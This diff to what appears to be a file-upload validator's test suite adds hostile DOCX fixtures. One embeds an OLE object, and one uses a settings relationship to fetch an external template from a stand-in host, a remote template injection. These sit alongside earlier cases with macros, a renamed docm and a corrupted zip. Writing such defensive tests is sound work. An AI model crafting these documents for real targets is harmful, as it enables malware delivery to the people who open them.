@@ -196,6 +196,7 @@ function zipTricks(): Trick[] {
   const list = (type: string, more?: string) => makeZip(docxParts(type, more))
   const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
   const macros = 'application/vnd.ms-office.vbaProject'
+  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
   const shifted = Buffer.from(docx)
   shifted.writeUInt32LE(0xfffffff0, shifted.length - 6)
   const many = Buffer.from(docx)
@@ -208,6 +209,14 @@ function zipTricks(): Trick[] {
     ['docx with macros', withPart({ name: 'word/vbaProject.bin', text: 'macro' })],
     ['docx with macros in capitals', withPart({ name: 'WORD/VBAPROJECT.BIN', text: 'macro' })],
     ['docx with macros under another name', list(word, `<Override PartName="/a" ContentType="${macros}"/>`)],
+    ['docx with something inside it', withPart({ name: 'word/embeddings/oleObject1.bin', text: 'ole' })],
+    [
+      'docx that fetches its template',
+      withPart({
+        name: 'word/_rels/settings.xml.rels',
+        text: `<Relationships><Relationship Id="r" Type="${office}/attachedTemplate" Target="https://elsewhere.example/t.dotm" TargetMode="External"/></Relationships>`,
+      }),
+    ],
     ['docm called docx', list('application/vnd.ms-word.document.macroEnabled.main+xml')],
     ['sheet called docx', list('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml')],
     ['docx whose list is too long', list(word, ' '.repeat(1_100_000))],
